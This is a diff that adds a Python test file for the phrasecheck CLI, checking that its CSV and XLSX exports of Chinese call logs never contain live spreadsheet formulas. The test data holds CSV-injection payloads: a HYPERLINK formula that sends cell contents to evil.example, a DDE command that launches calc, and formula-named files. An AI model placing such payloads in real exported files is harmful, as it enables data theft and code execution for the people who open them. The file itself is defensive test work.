@@ -1,0 +1,74 @@
+"""Hostile call logs against what phrasecheck writes: spreadsheets never get formulas, terminals never get escapes."""
+
+import csv
+import json
+import zipfile
+
+from openpyxl import load_workbook
+from typer.testing import CliRunner
+
+from phrasecheck.cli.app import app
+
+#: Text that a spreadsheet runs when a cell starts with it (OWASP "CSV injection").
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", "@SUM(A1)"]
+
+
+def run(*args):
+    return CliRunner().invoke(app, list(map(str, args)))
+
+
+def hostile_logs(folder):
+    """Calls whose ids and staff ids are formulas, in files whose names are formulas."""
+    folder.mkdir()
+    names = ["=1+2.jsonl", "+1.jsonl", "-1.jsonl", "@x.jsonl"]
+    for number, name in enumerate(names):
+        calls = [{"id": formula, "staff_id": FORMULAS[(index + number) % len(FORMULAS)],
+                  "turns": [{"speaker": "坐席", "role": "staff", "text": "您好，这事不归我管，你问别人去"},
+                            {"speaker": "市民", "role": "resident", "text": "好的"}]}
+                 for index, formula in enumerate(FORMULAS)]
+        (folder / name).write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in calls), encoding="utf-8")
+    return names
+
+
+def csv_cells(path):
+    with open(path, encoding="utf-8-sig", newline="") as stream:
+        return [cell for row in list(csv.reader(stream))[1:] for cell in row]
+
+
+def assert_no_formula_in_csv(path):
+    cells = csv_cells(path)
+    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    return cells
+
+
+def assert_no_formula_in_xlsx(path):
+    with zipfile.ZipFile(path) as book:
+        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and not [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]
+    return [cell for sheet in load_workbook(path, read_only=True) for row in sheet.values for cell in row]
+
+
+def test_call_ids_staff_ids_and_file_names_never_become_formulas(tmp_path, monkeypatch):
+    names = hostile_logs(tmp_path / "logs")
+    monkeypatch.chdir(tmp_path / "logs")
+    result = run("batch", "--db", tmp_path / "r.db", "--workers", 1,
+                 "--out", tmp_path / "calls.csv", "--out", tmp_path / "calls.xlsx", "--", *names)
+    assert result.exit_code == 0, result.output
+    cells = assert_no_formula_in_csv(tmp_path / "calls.csv")
+    assert {"'" + text for text in FORMULAS} <= set(cells)  # the text stays readable, behind OWASP's quote
+    assert {"'" + name for name in names} <= set(cells)
+    values = assert_no_formula_in_xlsx(tmp_path / "calls.xlsx")
+    assert set(FORMULAS) | set(names) <= set(values)  # XLSX keeps the text exactly, as text
+
+
+def test_report_workbooks_and_csv_never_hold_formulas(tmp_path, monkeypatch):
+    names = hostile_logs(tmp_path / "logs")
+    monkeypatch.chdir(tmp_path / "logs")
+    assert run("batch", "--db", tmp_path / "r.db", "--workers", 1, "--", *names).exit_code == 0
+    for by in ("staff", "rule"):
+        result = run("report", "--by", by, "--db", tmp_path / "r.db",
+                     "--out", tmp_path / f"{by}.csv", "--out", tmp_path / f"{by}.xlsx")
+        assert result.exit_code == 0, result.output
+        assert_no_formula_in_csv(tmp_path / f"{by}.csv")
+        assert_no_formula_in_xlsx(tmp_path / f"{by}.xlsx")
+    assert set(FORMULAS) <= set(assert_no_formula_in_xlsx(tmp_path / "staff.xlsx"))
